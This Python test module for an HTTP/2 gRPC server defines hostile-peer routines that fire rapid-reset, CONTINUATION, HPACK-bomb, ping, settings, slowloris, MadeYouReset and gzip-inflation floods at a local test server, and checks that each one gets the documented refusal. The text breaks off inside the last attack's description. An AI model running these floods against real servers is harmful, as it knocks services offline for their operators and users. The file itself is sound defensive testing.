#!/usr/bin/python3
"""The hostile peers: one function per attack, each with the answer it must get written down.

Every attack runs against tests/e2e's e2e_server on 127.0.0.1:PORT for about DURATION seconds,
stops by itself, and reports (as one JSON line on stdout) what the server answered and whether
that was the documented answer.  hostile.py runs them with a legitimate client beside them;
run one by hand with

    /usr/bin/python3 tests/hostile/attacks.py NAME PORT [DURATION]

Answers are counted by kind (h2wire.Conn): "GOAWAY <code>", "RST_STREAM <code>", "grpc-status N",
"http N", "closed" (EOF), "reset" (ECONNRESET).  An attack's `expected` text is its
documentation; its check says the same in code."""

import collections
import json
import sys
import time

from h2wire import (ENABLE_PUSH, ERR, FIRST_DYNAMIC_INDEX, INITIAL_WINDOW_SIZE,
                    MAX_CONCURRENT_STREAMS, Conn, chunk, continuation, data, download_request,
                    echo_request, error_name, grpc_message, gzip_bytes, headers, indexed, literal,
                    literal_indexed, ping, pump_all, request_block, rst_stream, settings,
                    window_update)

# The runtime's guard against floods of client resets (runtime/src/transport/conn.c:
# nghttp2_option_set_stream_reset_rate_limit(opt, 20000, 5000)): a burst of 20000, then 5000/s.
RESET_BURST = 20000
RESET_RATE = 5000
# What the server advertises (server_options.c, server.c).
MAX_STREAMS = 100
MAX_MESSAGE = 4 * 1024 * 1024

ATTACKS = collections.OrderedDict()


class Attack:
    def __init__(self, name, fn, expected, duration, rss_slack_mib, server_args,
                 max_new_threads=None):
        self.name, self.fn, self.expected, self.duration = name, fn, expected, duration
        self.rss_slack_mib, self.server_args = rss_slack_mib, server_args
        self.max_new_threads = max_new_threads
        self.what = " ".join((fn.__doc__ or "").split())


def attack(name, expected, duration=3.0, rss_slack_mib=None, server_args=(),
           max_new_threads=None):
    """rss_slack_mib: bound (c) for this attack, when the runtime lets it hold more than the
    default on purpose (a documented budget); hostile.py's RSS_SLACK_MIB otherwise.
    server_args: e2e_server options for this attack (a shorter limit, to see it act within the
    attack's seconds).  max_new_threads: (d) also fails when the server's thread count rises
    by more than this during the attack."""
    def register(fn):
        ATTACKS[name] = Attack(name, fn, " ".join(expected.split()), duration, rss_slack_mib,
                               list(server_args), max_new_threads)
        return fn
    return register


class Result:
    def __init__(self):
        self.answers = collections.Counter()
        self.stats = {}


def now():
    return time.monotonic()


def fits(kind, patterns):
    """kind is one of patterns: exact kinds, or prefixes ending in '*'."""
    return any(kind == p or (p.endswith("*") and kind.startswith(p[:-1])) for p in patterns)


def only(res, allowed, required=()):
    """The check most attacks make: every answer is one of allowed, and at least one of
    required came (when any is named)."""
    bad = sorted(k for k in res.answers if not fits(k, allowed))
    if bad:
        return False, "unexpected: " + ", ".join("%s x%d" % (k, res.answers[k]) for k in bad)
    if required and not any(fits(k, required) for k in res.answers):
        return False, "never got " + " or ".join(required)
    return True, ""


def wait_settings(c, timeout=2.0):
    """Reads until the server's SETTINGS came (and were acknowledged by Conn)."""
    end = now() + timeout
    while not c.closed and MAX_CONCURRENT_STREAMS not in c.server_settings and now() < end:
        c.pump(0.05)


def hold(conns, deadline):
    """Keeps reading (acknowledging, as a client must) until deadline."""
    while now() < deadline:
        pump_all(conns, min(0.1, max(0.0, deadline - now())))


ECHO = grpc_message(echo_request(b"x"))


def stream_answer(st):
    """What the server answered on a stream: its status if it ended the stream (a reset after
    that only stops the rest of the request), else its reset."""
    if st.ended and st.status not in (None, "200"):
        return "http " + st.status
    if st.ended and st.grpc_status is not None:
        return "grpc-status %d" % st.grpc_status
    if st.rst is not None:
        return "RST_STREAM " + error_name(st.rst)
    return "ended" if st.ended else "no answer"


def request_loop(port, res, deadline, make, concurrency=50, stuck_after=2.0):
    """Keeps `concurrency` requests in flight until deadline: make(conn) opens one stream (its
    frames sent) and returns its id.  Reconnects when the server closes; a stream unanswered
    for stuck_after seconds is cancelled and counted as "no answer".  Returns the connections."""
    conns, c, live = [], None, []
    while now() < deadline:
        if c is None or c.closed:
            c = Conn(port, answers=res.answers)
            conns.append(c)
            live = []
        t = now()
        keep = []
        for sid in live:
            st = c.streams[sid]
            if st.over:
                continue
            if t - st.opened > stuck_after:
                res.answers["no answer in %gs" % stuck_after] += 1
                st.rst = -1  # ours: not the server's answer
                c.send(rst_stream(sid, ERR["CANCEL"]))
                continue
            keep.append(sid)
        live = keep
        while len(live) < concurrency and not c.closed:
            live.append(make(c))
        c.flush(min(deadline, now() + 0.2))
        c.pump(0.01)
    for c in conns:
        c.close()
    return conns


# ---- the HTTP/2 layer ---------------------------------------------------------------------------

def guarded(c, sent, t0, read_all, why_prefix):
    """The rule of the rapid-reset guard for one connection: GOAWAY ENHANCE_YOUR_CALM or
    INTERNAL_ERROR, unless what the server read of it stayed under the guard."""
    elapsed = max(now() - t0, 1e-3)
    limit = RESET_BURST + RESET_RATE * elapsed
    if c.goaway is not None and c.goaway[0] in (ERR["ENHANCE_YOUR_CALM"], ERR["INTERNAL_ERROR"]):
        return None
    if c.goaway is None and c.closed in ("closed", "reset"):
        return None  # closed on us: its GOAWAY lost to the TCP reset of unread bytes
    if read_all and sent <= limit:
        return None
    return "%s: %d in %.1fs (guard: %d) and no GOAWAY%s" % (
        why_prefix, sent, elapsed, limit, "" if read_all else " (nor an answer to a PING in 2 s)")


@attack("rapid_reset", expected="""
    GOAWAY (ENHANCE_YOUR_CALM, or INTERNAL_ERROR as nghttp2's guard sends it) on every connection
    whose resets, as read by the server, pass the runtime's guard (20000 at once, then 5000/s),
    or at least the connection closed (a GOAWAY can be lost to the TCP reset of a socket closed
    with bytes unread); below the guard, any answer.""")
def rapid_reset(port, duration, res):
    """CVE-2023-44487: HEADERS + DATA (a whole Echo request, so that it is dispatched) +
    RST_STREAM(CANCEL), stream after stream, as fast as the server reads; a new connection when
    the server ends one.  The last one is sent a PING, whose ACK says the server read it all."""
    block = request_block()
    end = now() + duration
    total = conns = 0
    failures = []
    while now() < end:
        c = Conn(port, answers=res.answers, decode=False, track=False)
        conns += 1
        t0 = now()
        sent = 0
        while now() < end and not c.closed:
            batch = bytearray()
            for _ in range(200):
                sid = c.next_id
                c.next_id += 2
                batch += headers(sid, block) + data(sid, ECHO, True) + \
                    rst_stream(sid, ERR["CANCEL"])
            if not c.send(batch, end):
                break
            sent += 200
            c.pump(0)
        read_all = not c.closed and c.barrier(2.0)
        why = guarded(c, sent, t0, read_all, "resets on connection %d" % conns)
        if why:
            failures.append(why)
        c.close()
        total += sent
    res.stats.update(connections=conns, resets_sent=total, per_s=round(total / duration))
    return not failures, "; ".join(failures[:3])


@attack("continuation_flood", expected="""
    the connection closed (with or without GOAWAY) within 1 s of the first CONTINUATION frames,
    every time (CVE-2024-28182; nghttp2's max_continuations).""")
def continuation_flood(port, duration, res):
    """HEADERS without END_HEADERS, then CONTINUATION frames of 1 KiB of header fields, never
    ending the block; a new connection whenever the server closes one."""
    block = request_block()
    frames = continuation(1, literal("x-c", "c" * 1000)) * 16
    end = now() + duration
    conns, took, sent_max = 0, [], 0
    while now() < end:
        c = Conn(port, answers=res.answers, decode=False)
        conns += 1
        t = now()
        sent = 0
        c.send(headers(1, block, end_headers=False), end)
        while not c.closed and now() < end and now() - t < 1.0:
            if c.send(frames, min(end, now() + 0.1)):
                sent += len(frames)
            c.pump(0)
        if c.closed:
            took.append(now() - t)
        elif now() - t >= 1.0:
            res.answers["still open after 1 s"] += 1
        sent_max = max(sent_max, sent)
        c.close()
    res.stats.update(connections=conns, slowest_close_ms=round(1000 * max(took or [0])),
                     most_continuation_bytes_taken=sent_max)
    return only(res, ["GOAWAY *", "closed", "reset"], ["GOAWAY *", "closed", "reset"])


@attack("hpack_bomb", expected="""
    every stream refused once its headers pass the 16 KiB the server advertises: RST_STREAM
    ENHANCE_YOUR_CALM (or REFUSED_STREAM, or grpc-status RESOURCE_EXHAUSTED); none served; the
    connection may end with GOAWAY ENHANCE_YOUR_CALM.""")
def hpack_bomb(port, duration, res):
    """One 4 KiB entry into the server's HPACK table, then header blocks of 12000 one-byte
    references to it (48 MiB of headers from 12 KB), stream after stream; reconnecting if the
    server closes."""
    bomb = literal_indexed("x-bomb", "b" * 4000)  # 4000 + 6 + 32 bytes: fits the 4096 table
    refs = indexed(FIRST_DYNAMIC_INDEX) * 12000
    end = now() + duration
    streams = 0
    while now() < end:
        c = Conn(port, answers=res.answers)
        first = True
        while not c.closed and now() < end:
            batch = bytearray()
            for _ in range(4):
                sid = c.new_stream()
                batch += headers(sid, request_block() + (bomb if first else b"") + refs, True)
                first = False
            c.send(batch, end)
            streams += 4
            c.pump(0)
            live = c.open_streams()
            if len(live) > MAX_STREAMS // 2:  # let the server catch up, as a client would
                c.pump(0.05)
        c.close()
    res.stats.update(streams=streams, header_bytes_decoded_mib=streams * 12000 * 4 // 1024)
    return only(res, ["RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM",
                      "grpc-status 8", "GOAWAY ENHANCE_YOUR_CALM", "closed", "reset"],
                ["RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM", "grpc-status 8",
                 "GOAWAY ENHANCE_YOUR_CALM"])


@attack("hpack_amplification", expected="""
    grpc-status 0 for every request: each is within the server's limits (12 KiB of metadata,
    under 16 KiB), only cheap to send (a 3.9 KiB table entry referenced three times: ~70 bytes
    of headers).  What matters is that the legitimate client does not notice.""")
def hpack_amplification(port, duration, res):
    """Whole Echo requests whose metadata is three one-byte references to one 3.9 KiB HPACK
    table entry, 100 in flight on one connection, the responses read."""
    entry = literal_indexed("x-amp", "a" * 3900)
    ref = indexed(FIRST_DYNAMIC_INDEX)
    fresh = set()

    def make(c):
        sid = c.new_stream()
        if id(c) not in fresh:  # the first request of a connection puts the entry in its table
            fresh.add(id(c))
            block = request_block() + entry + ref * 2
        else:
            block = request_block() + ref * 3
        c.send(headers(sid, block) + data(sid, ECHO, True))
        return sid

    conns = request_loop(port, res, now() + duration, make, concurrency=MAX_STREAMS)
    n = sum(len(c.streams) for c in conns)
    res.stats.update(requests=n, per_s=round(n / duration), metadata_mib=round(n * 11.7 / 1024))
    return only(res, ["grpc-status 0"], ["grpc-status 0"])


@attack("huge_header_values", expected="""
    a 60 KiB header value: the stream refused (RST_STREAM ENHANCE_YOUR_CALM or REFUSED_STREAM,
    or grpc-status RESOURCE_EXHAUSTED); a 1 MiB one: the connection ended (GOAWAY
    COMPRESSION_ERROR or ENHANCE_YOUR_CALM, or closed).  Never served.""")
def huge_header_values(port, duration, res):
    """Echo requests each with one huge header value, sent in HEADERS + CONTINUATION frames of
    16 KiB: twenty with 60 KiB values, then one with a 1 MiB value; a new connection each time
    the server closes one."""
    def blocks(value_len):
        block = request_block(extra=[("x-huge", "h" * value_len)])
        return [block[i:i + 16384] for i in range(0, len(block), 16384)]

    def send_request(c, value_len, deadline):
        sid = c.new_stream()
        parts = blocks(value_len)
        out = bytearray(headers(sid, parts[0], end_headers=len(parts) == 1))
        for i, p in enumerate(parts[1:], 2):
            out += continuation(sid, p, end_headers=i == len(parts))
        c.send(out + data(sid, ECHO, True), deadline)

    end = now() + duration
    while now() < end:
        c = Conn(port, answers=res.answers)
        for _ in range(20):
            if c.closed or now() >= end:
                break
            send_request(c, 60 * 1024, end)
            c.pump(0.005)
        if not c.closed and now() < end:
            send_request(c, 1 << 20, end)
        t = now()
        while not c.closed and now() - t < 1.0 and now() < end:
            c.pump(0.05)
        if not c.closed and now() - t >= 1.0:
            res.answers["1 MiB value: still open after 1 s"] += 1
        c.close()
    return only(res, ["RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM", "grpc-status 8",
                      "GOAWAY COMPRESSION_ERROR", "GOAWAY ENHANCE_YOUR_CALM", "closed", "reset"],
                ["RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM", "grpc-status 8"])


FLOOD_CLOSE_S = 2.0  # how long a flooding connection may last


def flood(port, duration, res, unit, setup=None, read=False):
    """Sends `unit` frames in batches on connections that never read (a small receive buffer),
    reconnecting when the server ends one; records how long each connection lasted."""
    end = now() + duration
    lasted, conns, sent = [], 0, 0
    batch = unit * max(1, 16384 // len(unit))
    while now() < end:
        c = Conn(port, answers=res.answers, decode=False, rcvbuf=4096)
        conns += 1
        if setup is not None:
            setup(c)
        t = now()
        while not c.closed and now() < end:
            if c.send(batch, min(end, now() + 0.2), read=read):
                sent += len(batch) // len(unit)
        if c.closed:
            lasted.append(now() - t)
        elif now() - t > FLOOD_CLOSE_S:  # the attack's time is up, and it was long enough
            res.answers["still open after %.1fs" % (now() - t)] += 1
        c.close()
    res.stats.update(connections=conns, frames_sent=sent,
                     longest_connection_s=round(max(lasted or [0]), 2))
    return lasted


@attack("settings_flood", expected="""
    the connection closed (GOAWAY ENHANCE_YOUR_CALM, or just closed) within 2 s, while its SETTINGS
    ACKs go unread (CVE-2019-9515; nghttp2's max_outbound_ack).""")
def settings_flood(port, duration, res):
    """100 open Upload streams (so that each INITIAL_WINDOW_SIZE change walks them), then
    SETTINGS frames changing INITIAL_WINDOW_SIZE back and forth, never reading the ACKs."""
    def setup(c):
        out = bytearray()
        for _ in range(MAX_STREAMS):
            out += headers(c.new_stream(), request_block(path="/e2e.Echo/Upload"))
        c.send(out, now() + 1)
    unit = settings([(INITIAL_WINDOW_SIZE, 65535)]) + settings([(INITIAL_WINDOW_SIZE, 1 << 20)])
    lasted = flood(port, duration, res, unit, setup)
    ok, why = only(res, ["GOAWAY *", "closed", "reset"], ["GOAWAY *", "closed", "reset"])
    if ok and max(lasted or [0]) > FLOOD_CLOSE_S:
        return False, "a connection lasted %.1fs" % max(lasted)
    return ok, why


@attack("ping_flood", expected="""
    the connection closed within 2 s: GOAWAY ENHANCE_YOUR_CALM 'too_many_pings' (the keepalive
    policy: pings without data), or closed by the flood guard (CVE-2019-9512) when the ACKs go
    unread.""")
def ping_flood(port, duration, res):
    """PING frames in a loop, never reading the ACKs."""
    lasted = flood(port, duration, res, ping(b"pingpong"))
    ok, why = only(res, ["GOAWAY ENHANCE_YOUR_CALM", "closed", "reset"],
                   ["GOAWAY ENHANCE_YOUR_CALM", "closed", "reset"])
    if ok and max(lasted or [0]) > FLOOD_CLOSE_S:
        return False, "a connection lasted %.1fs" % max(lasted)
    return ok, why


@attack("empty_data_flood", expected="""
    the connection closed (GOAWAY ENHANCE_YOUR_CALM or PROTOCOL_ERROR, or closed) within 2 s:
    DATA frames with no payload and no END_STREAM carry nothing and only cost the server
    (CVE-2019-9518; Envoy closes after one such frame in a row by default).""")
def empty_data_flood(port, duration, res):
    """One Upload stream, then DATA frames of length 0 without END_STREAM, endlessly (the
    server's answers read)."""
    def setup(c):
        sid = c.new_stream()
        c.send(headers(sid, request_block(path="/e2e.Echo/Upload")), now() + 1)
    lasted = flood(port, duration, res, data(1, b""), setup, read=True)
    ok, why = only(res, ["GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR", "closed", "reset"],
                   ["GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR", "closed", "reset"])
    if ok and max(lasted or [0]) > FLOOD_CLOSE_S:
        return False, "a connection lasted %.1fs" % max(lasted)
    return ok, why


@attack("window_update_overflow", expected="""
    RST_STREAM FLOW_CONTROL_ERROR for every stream whose window is pushed past 2^31-1, and GOAWAY
    FLOW_CONTROL_ERROR for the connection's (RFC 9113 6.9.1); once such errors from the client
    pass a flood guard, GOAWAY ENHANCE_YOUR_CALM instead.""")
def window_update_overflow(port, duration, res):
    """On each connection: 20 open Upload streams, each sent WINDOW_UPDATE 2^31-1 (over the
    65535 it has); then the same on stream 0; a new connection once the server ends it."""
    end = now() + duration
    conns = 0
    while now() < end:
        c = Conn(port, answers=res.answers)
        conns += 1
        out = bytearray()
        sids = [c.new_stream() for _ in range(20)]
        for sid in sids:
            out += headers(sid, request_block(path="/e2e.Echo/Upload"))
        for sid in sids:
            out += window_update(sid, 0x7FFFFFFF)
        c.send(out, end)
        t = now()
        while sum(1 for s in sids if c.streams[s].rst is None) and not c.closed and \
                now() - t < 1.0:
            c.pump(0.02)
        c.send(window_update(0, 0x7FFFFFFF), end)
        t = now()
        while not c.closed and now() - t < 1.0:
            c.pump(0.02)
        if not c.closed:
            res.answers["connection window overflow: still open after 1 s"] += 1
        c.close()
    res.stats.update(connections=conns)
    if not res.answers["GOAWAY FLOW_CONTROL_ERROR"]:
        return False, "never got GOAWAY FLOW_CONTROL_ERROR"
    return only(res, ["RST_STREAM FLOW_CONTROL_ERROR", "GOAWAY FLOW_CONTROL_ERROR",
                      "GOAWAY ENHANCE_YOUR_CALM", "closed", "reset"],
                ["RST_STREAM FLOW_CONTROL_ERROR"])


# ---- streams and handlers -----------------------------------------------------------------------

# The server's default budget per connection for what streaming handlers have sent and the
# client has not taken (cgrpc_server_options_set_unsent_budget): a stream's response HEADERS go
# with its first message, so past it the other streams wait without them.
UNSENT_BUDGET = 32 << 20
# The most streaming handler threads one connection's streams hold at once
# (cgrpc_server_options_set_stream_handlers_per_connection).
STREAM_HANDLERS_PER_CONN = 64


def zero_window_downloads(port, res, deadline, conns, streams, count, size):
    cs = []
    for _ in range(conns):
        c = Conn(port, answers=res.answers, auto_window=False,
                 settings_pairs=[(ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, 0)])
        out = bytearray()
        for _ in range(streams):
            sid = c.new_stream()
            out += headers(sid, request_block(path="/e2e.Echo/Download"))
            out += data(sid, grpc_message(download_request(count, size)), True)
        c.send(out, deadline)
        cs.append(c)
    hold(cs, deadline)
    got_headers = sum(1 for c in cs for st in c.streams.values() if st.header_blocks)
    data_bytes = sum(c.data_bytes for c in cs)
    for c in cs:
        c.close()
    res.stats.update(streams=conns * streams, got_headers=got_headers, data_bytes=data_bytes)
    if data_bytes:
        return False, "%d bytes of DATA through a zero window" % data_bytes
    ok, why = only(res, [])
    # Handlers that run: a connection's share of the streaming threads, and of those the ones
    # whose first message fits the unsent budget send their headers.
    fit = min(streams, STREAM_HANDLERS_PER_CONN, UNSENT_BUDGET // (size + 5))
    if ok and got_headers != conns * fit:
        return False, "response HEADERS on %d of %d streams (expected %d: %d per connection)" % (
            got_headers, conns * streams, conns * fit, fit)
    return ok, why


@attack("slow_reader_big", expected="""
    response HEADERS (:status 200) on every stream whose first 1 MiB message fits the
    connection's unsent budget (32 MiB: 31 of the 100), and no DATA: the server waits for window,
    and the other handlers wait in send for room in the budget.  (What it holds meanwhile shows
    as the peak RSS; (c) asserts it comes back.)""")
def slow_reader_big(port, duration, res):
    """A reader that never grants window (SETTINGS_INITIAL_WINDOW_SIZE 0, no WINDOW_UPDATE) asks
    for 100 Downloads of 100 chunks of 1 MiB on one connection."""
    return zero_window_downloads(port, res, now() + duration, 1, MAX_STREAMS, 100, 1 << 20)


@attack("stalled_downloads", expected="""
    response HEADERS (:status 200) on 64 streams of each connection, its share of the streaming
    handler threads, and no DATA; those handlers wait, blocked in send, until the reader leaves
    (then they see the cancellation); the other 36 streams of each connection wait for one of
    their own connection's threads, holding none.""")
def stalled_downloads(port, duration, res):
    """Server-streaming calls whose reader grants no window: 4 connections x 100 Downloads of
    10000 chunks of 16 KiB, each running handler holding a streaming thread blocked in send."""
    return zero_window_downloads(port, res, now() + duration, 4, MAX_STREAMS, 10000, 16384)


@attack("excess_streams", expected="""
    the streams past the 100 concurrent the server allows refused: RST_STREAM REFUSED_STREAM or
    PROTOCOL_ERROR (RFC 9113 5.1.2), the others answered grpc-status 0; or the connection ended
    with GOAWAY PROTOCOL_ERROR, the admitted streams with it (a stream error may be treated as a
    connection error, 5.4.1: nghttp2 does, once the client acknowledged the limit); past a
    flood guard, GOAWAY ENHANCE_YOUR_CALM.""")
def excess_streams(port, duration, res):
    """Bursts of 1000 whole Echo requests at once, ten times the server's
    MAX_CONCURRENT_STREAMS, on a connection that acknowledged it; again whenever a burst is
    answered, on a new connection when the server ends one."""
    end = now() + duration
    bursts = 0
    c = None
    while now() < end:
        if c is None or c.closed:
            c = Conn(port, answers=res.answers)
            wait_settings(c)
        out = bytearray()
        for _ in range(1000):
            sid = c.new_stream()
            out += headers(sid, request_block()) + data(sid, ECHO, True)
        c.send(out, end)
        bursts += 1
        t = now()
        while c.open_streams() and not c.closed and now() < end and now() - t < 1.0:
            c.pump(0.02)
    c.close()
    res.stats.update(bursts=bursts)
    refusals = ["RST_STREAM REFUSED_STREAM", "RST_STREAM PROTOCOL_ERROR", "GOAWAY PROTOCOL_ERROR",
                "GOAWAY ENHANCE_YOUR_CALM"]
    return only(res, ["grpc-status 0", "closed", "reset"] + refusals, refusals)


@attack("idle_uploads", expected="""
    no answer: the 100 streams the server allows stay open until the client leaves, and no
    handler thread is taken for them (a client-streaming handler starts with its first
    message): the server has at most 2 threads more than before.  (Streams past the limit are
    excess_streams' case.)""", max_new_threads=2)
def idle_uploads(port, duration, res):
    """100 client-streaming Upload calls on one connection (the server's
    MAX_CONCURRENT_STREAMS) that never send a message: HEADERS only, held open."""
    c = Conn(port, answers=res.answers)
    wait_settings(c)
    out = bytearray()
    for _ in range(MAX_STREAMS):
        out += headers(c.new_stream(), request_block(path="/e2e.Echo/Upload"))
    c.send(out, now() + 1)
    hold([c], now() + duration)
    held = len(c.open_streams())
    c.close()
    res.stats.update(streams=MAX_STREAMS, held_open=held)
    return only(res, [])


@attack("slowloris", expected="""
    the server's SETTINGS, then GOAWAY ENHANCE_YOUR_CALM (or the connection closed) on every
    connection once its HEADERS frame has been open for the frame timeout (1 s for this attack;
    20 s by default): the trickle never completes a request.  It must cost little while held.""",
        server_args=["--frame-timeout-ms", "1000"])
def slowloris(port, duration, res):
    """200 connections that send the preface and SETTINGS, then a request's HEADERS frame one
    byte per second each."""
    cs = [Conn(port, answers=res.answers) for _ in range(200)]
    for c in cs:  # the server's SETTINGS acknowledged before the trickle, not in its middle
        wait_settings(c)
        c.flush(now() + 1)
        c.auto_ack = False
    frame_bytes = headers(1, request_block()) + data(1, ECHO, True)
    end = now() + duration
    i = 0
    while now() < end:
        for c in cs:
            if not c.closed:
                c.send(frame_bytes[i:i + 1])
        i += 1
        hold(cs, min(end, now() + 1.0))
    settled = sum(1 for c in cs if c.server_settings)
    still_open = sum(1 for c in cs if not c.closed)
    for c in cs:
        c.close()
    res.stats.update(connections=len(cs), bytes_each=i, got_settings=settled,
                     still_open=still_open)
    if still_open:
        return False, "%d of %d trickling connections still open" % (still_open, len(cs))
    return only(res, ["closed", "reset", "GOAWAY ENHANCE_YOUR_CALM"])


@attack("idle_connections", expected="""
    the server's SETTINGS on each of 1000 connections and nothing else (the server sets no
    connection limit by default); each costs it little while held.""")
def idle_connections(port, duration, res):
    """1000 connections that send the preface and SETTINGS, acknowledge the server's, then say
    nothing."""
    end = now() + duration
    cs = []
    for _ in range(1000):
        if now() >= end:
            break
        cs.append(Conn(port, answers=res.answers))
    hold(cs, end)
    settled = sum(1 for c in cs if c.server_settings)
    for c in cs:
        c.close()
    res.stats.update(connections=len(cs), got_settings=settled)
    if settled < len(cs):
        return False, "SETTINGS on %d of %d connections" % (settled, len(cs))
    return only(res, [])


@attack("reconnect_resets", expected="""
    GOAWAY ENHANCE_YOUR_CALM (or INTERNAL_ERROR, or the connection closed) once the resets the
    server read from this client, counted across its connections, pass the guard (20000 at once,
    then 5000/s): reconnecting must not start the count over.  Below that, the server keeps up:
    each connection's PING, sent after its resets, answered within 1 s.""")
def reconnect_resets(port, duration, res):
    """Rapid reset spread over connections, each under the per-connection guard: 1000 HEADERS +
    DATA + RST_STREAM on a connection, a PING (whose ACK says they were all read), then a new
    connection, again and again."""
    block = request_block()
    t0 = now()
    end = t0 + duration
    conns = resets = late = 0
    guarded_at = None
    while now() < end:
        c = Conn(port, answers=res.answers, decode=False, track=False)
        conns += 1
        out = bytearray()
        for _ in range(1000):
            sid = c.next_id
            c.next_id += 2
            out += headers(sid, block) + data(sid, ECHO, True) + rst_stream(sid, ERR["CANCEL"])
        c.send(out, end)
        read_all = c.barrier(1.0)
        if read_all:
            resets += 1000
        if c.goaway is not None and c.goaway[0] in (ERR["ENHANCE_YOUR_CALM"],
                                                    ERR["INTERNAL_ERROR"]) or \
                (c.goaway is None and c.closed in ("closed", "reset")):
            guarded_at = guarded_at or resets
        elif not read_all:
            late += 1
        c.close()
    elapsed = now() - t0
    limit = RESET_BURST + RESET_RATE * elapsed
    res.stats.update(connections=conns, resets_read=resets, per_s=round(resets / elapsed),
                     guard_tripped_after=guarded_at)
    if late:
        return False, "%d of %d connections' PING not answered within 1 s" % (late, conns)
    if guarded_at is None and resets > limit:
        return False, ("%d resets read over %d connections in %.1fs (guard: %d) and no GOAWAY: "
                       "each new connection started the count over" % (resets, conns, elapsed,
                                                                        limit))
    return True, ""


@attack("server_reset_provoker", expected="""
    RST_STREAM FLOW_CONTROL_ERROR on each stream, and GOAWAY (ENHANCE_YOUR_CALM, or INTERNAL_ERROR)
    once the resets it provoked on a connection pass the runtime's guard for client resets
    (20000 at once, then 5000/s): a reset the client provokes is a client reset by another
    name (CVE-2025-8671, 'MadeYouReset').""")
def server_reset_provoker(port, duration, res):
    """Whole Echo requests (HEADERS + DATA with END_STREAM: half-closed, dispatched), each
    followed by WINDOW_UPDATE 2^31-1 on its stream, which the server must answer with
    RST_STREAM; 100 at a time (the server's limit: its resets close them), round after round,
    on one connection, a new one if the server ends it."""
    block = request_block()
    end = now() + duration
    conns = total = 0
    failures = []
    while now() < end:
        c = Conn(port, answers=res.answers, decode=False)
        wait_settings(c)
        conns += 1
        t0 = now()
        before = res.answers["RST_STREAM FLOW_CONTROL_ERROR"]
        while now() < end and not c.closed:
            batch = bytearray()
            sids = []
            for _ in range(MAX_STREAMS):
                sid = c.new_stream()
                sids.append(sid)
                batch += headers(sid, block) + data(sid, ECHO, True) + \
                    window_update(sid, 0x7FFFFFFF)
            if not c.send(batch, end):
                break
            t = now()
            while not c.closed and now() - t < 1.0 and any(not c.streams[s].over for s in sids):
                c.pump(0.01)
            for s in sids:
                del c.streams[s]
        provoked = res.answers["RST_STREAM FLOW_CONTROL_ERROR"] - before
        read_all = not c.closed and c.barrier(2.0)
        why = guarded(c, provoked, t0, read_all, "provoked resets on connection %d" % conns)
        if why:
            failures.append(why)
        total += provoked
        c.close()
    res.stats.update(connections=conns, provoked_resets=total, per_s=round(total / duration))
    if not total:
        return False, "no RST_STREAM FLOW_CONTROL_ERROR"
    return not failures, "; ".join(failures[:3])


# ---- messages -----------------------------------------------------------------------------------

@attack("compressed_bidi", expected="""
    no answer while the client does not read: the server stops granting window, so the
    attacker's streams stall on flow control with what they sent unread (or the server refuses
    them: grpc-status RESOURCE_EXHAUSTED, RST_STREAM ENHANCE_YOUR_CALM).  What the handlers hold
    is bounded by the connection's two budgets: 32 MiB of inflated requests, 32 MiB of unsent
    responses (the server's defaults), besides its 16 MiB connection window of what was sent.
    (c)'s RSS bound is 128 MiB for it: 100 handler threads free that memory in the C library's
    per-thread arenas, which keep part of it (42 to 93 MiB measured); the server's allocator
    must still be back to ~0.""", rss_slack_mib=128)
def compressed_bidi(port, duration, res):
    """100 Chat (bidi) streams, grpc-encoding gzip, fed 1 KiB messages that inflate to 1 MiB
    each (~1000x), as fast as flow control lets; the client never reads (window 0) and the
    server's echoes pile up."""
    c = Conn(port, answers=res.answers, auto_window=False,
             settings_pairs=[(ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, 0)])
    wait_settings(c)
    msg = grpc_message(gzip_bytes(chunk(b"\0" * (1 << 20))), compressed=True)
    sids = []
    out = bytearray()
    for _ in range(MAX_STREAMS):
        sid = c.new_stream()
        sids.append(sid)
        out += headers(sid, request_block(path="/e2e.Echo/Chat", encoding="gzip"))
    c.send(out, now() + 1)
    end = now() + duration
    offsets = dict.fromkeys(sids, 0)
    messages = sent_bytes = 0
    while now() < end and not c.closed:
        progressed = False
        for sid in sids:
            st = c.streams[sid]
            if st.over:
                continue
            n = c.send_data(sid, msg[offsets[sid]:])
            if n:
                progressed = True
                sent_bytes += n
                offsets[sid] += n
                if offsets[sid] == len(msg):
                    offsets[sid] = 0
                    messages += 1
        c.flush(min(end, now() + 0.1))
        c.pump(0 if progressed else 0.05)
    stalled = sum(1 for sid in sids if c.streams[sid].send_window <= 0 or c.conn_send_window <= 0)
    c.close()
    res.stats.update(messages=messages, compressed_kib=sent_bytes // 1024,
                     inflated_mib=messages, streams_stalled=stalled)
    ok, why = only(res, ["grpc-status 8", "RST_STREAM ENHANCE_YOUR_CALM"])
    if ok and not stalled and not res.answers:
        return False, "flow control never stopped the attacker"
    return ok, why


@attack("gzip_cpu", expected="""
    grpc-status 0 for each request (each is within limits: 4 KiB of gzip inflating to just under
    4 MiB), or a refusal when the server sheds load (grpc-status RESOURCE_EXHAUSTED, RST_STREAM
    REFUSED_STREAM or ENHANCE_YOUR_CALM).  What matters is that the legitimate client does not
    notice.""")
def gzip_cpu(port, duration, res):
    """Unary Echo requests of ~4 KiB of gzip inflating to just under 4 MiB (response_size 1, so
    that the answer is small), 50 in flight on one connection."""
    payload = b"\0" * (MAX_MESSAGE - 64)
    msg = grpc_message(gzip_bytes(echo_request(payload, response_size=1)), compressed=True)
    block = request_block(encoding="gzip")

    def make(c):
        sid = c.new_stream()
        c.send(headers(sid, block) + data(sid, msg, True))
        return sid

    conns = request_loop(port, res, now() + duration, make, concurrency=50, stuck_after=5.0)
    n = sum(len(c.streams) for c in conns)
    res.stats.update(requests=n, wire_kib_each=len(msg) // 1024, inflated_mib_per_s=round(
        n * 4 / duration))
    return only(res, ["grpc-status 0", "grpc-status 8", "RST_STREAM REFUSED_STREAM",
                      "RST_STREAM ENHANCE_YOUR_CALM"], ["grpc-status 0", "grpc-status 8"])


@attack("announced_unsent", expected="""
    no answer: each stream waits for the rest of its message, and the server holds what arrived
